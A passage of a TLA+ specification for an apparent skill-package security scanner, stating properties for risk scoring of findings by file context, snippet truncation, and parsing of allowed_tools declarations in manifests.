           /\ score.risk_level = "dangerous"

\* C24: one finding in a script of a critical rule with hard_trigger scores
\* at least 75 (dangerous) from its own weight, and one finding in a script
\* of a rule with severity medium scores below the medium threshold of 25,
\* so that the skill is classified lower than medium.
C24_CatalogTuning ==
    /\ CriticalAloneDangerous
    /\ (OnlyInScript /\ OnlyRule.severity = "medium")
          => /\ score.total_score < 25
             /\ score.risk_level \in {"safe", "low"}

\* C24, amended: one finding in a script of a critical rule with
\* hard_trigger scores at least 75 (dangerous) from its own weight; one
\* finding in a script of a rule with severity medium scores the rule's
\* whole weight, which is at least 25 and below 50, so that the skill is
\* classified medium; one finding of such a rule in a markdown file that is
\* no script scores half the weight, below 25, and the skill is classified
\* low.
C24_CatalogTuning_ByContext ==
    /\ CriticalAloneDangerous
    /\ (OnlyInScript /\ OnlyRule.severity = "medium")
          => /\ score.total_score = OnlyRule.weight
             /\ score.total_score >= 25 /\ score.total_score < 50
             /\ score.risk_level = "medium"
    /\ (OnlyInMarkdown /\ OnlyRule.severity = "medium")
          => /\ score.total_score = OnlyRule.weight \div 2
             /\ score.total_score < 25
             /\ score.risk_level = "low"

\* A single finding in a script of a rule of severity medium, scored medium
C24_Witness ==
    /\ OnlyInScript
    /\ OnlyRule.severity = "medium"
    /\ score.total_score = 35
    /\ score.risk_level = "medium"

----------------------------------------------------------------------------
(* Properties of the snippet, checked under SpecSnippet *)

\* The one character of an ellipsis
Ellipsis == "<ellipsis>"

\* The line without the blanks at its ends
Stripped == Strip(line, {" ", "\t"})

\* C22: the snippet of a finding is the matched line with the whitespace at
\* its ends removed, cut to its first 100 characters, with the single
\* ellipsis character appended if and only if the stripped line is longer
\* than 100 characters; a stripped line of at most 100 characters is
\* reproduced unchanged.
C22_SnippetCutWithEllipsis ==
    snippet = IF Len(Stripped) > 100
              THEN SubSeq(Stripped, 1, 100) \o <<Ellipsis>>
              ELSE Stripped

----------------------------------------------------------------------------
(* Properties of the manifest parser, checked under SpecManifest *)

\* The blocks of the manifest that declare tools, in text order
Declaring == SelectSeq(blocks, LAMBDA b : b.form \in DeclaringForms)

\* C16: the same three tokens declared as an inline directive, as a
\* front-matter inline list, as a front-matter block list or as a markdown
\* section give the same allowed_tools list, those three tokens in their
\* order, with parse_success = true.
C16_SameTokensSameList ==
    (/\ Len(Declaring) = 1
     /\ Declaring[1].form \in {"inline", "fm_inline", "fm_block", "section"}
     /\ Declaring[1].tools = ThreeTools
     /\ \A i \in 1..Len(blocks) : blocks[i].form # "numeric")
        => parsed = SkillMdInfo(<<"Read", "Write", "Bash">>, TRUE)

\* The syntax a declaring block is written in: 1 a line with the key, a
\* colon and tokens behind it (the line of a one-line front-matter list is
\* such a line too), 2 a front-matter block list, 3 a markdown section
SyntaxOf(b) ==
    CASE b.form \in {"inline", "fm_inline"} -> 1
      [] b.form = "fm_block" -> 2
      [] b.form \in {"section", "section_star"} -> 3

\* The tokens of the first block written in the earliest syntax present
EarliestTokens(ds) ==
    LET syn   == {SyntaxOf(ds[i]) : i \in 1..Len(ds)}
        least == CHOOSE x \in syn : \A y \in syn : x <= y
        of    == SelectSeq(ds, LAMBDA b : SyntaxOf(b) = least)
    IN  of[1].tools

\* C18: when a manifest matches more than one of the three syntaxes,
\* extract_allowed_tools returns the tokens of the earliest matching one in
\* the order inline directive, front-matter block, markdown section, and
\* mixes no tokens of two syntaxes.
C18_EarliestSyntaxWins ==
    (/\ \A i \in 1..Len(blocks) : blocks[i].form \notin {"numeric", "fm_flow"}
     /\ Cardinality({SyntaxOf(Declaring[i]) : i \in 1..Len(Declaring)}) > 1)
        => parsed = SkillMdInfo(EarliestTokens(Declaring), TRUE)

====
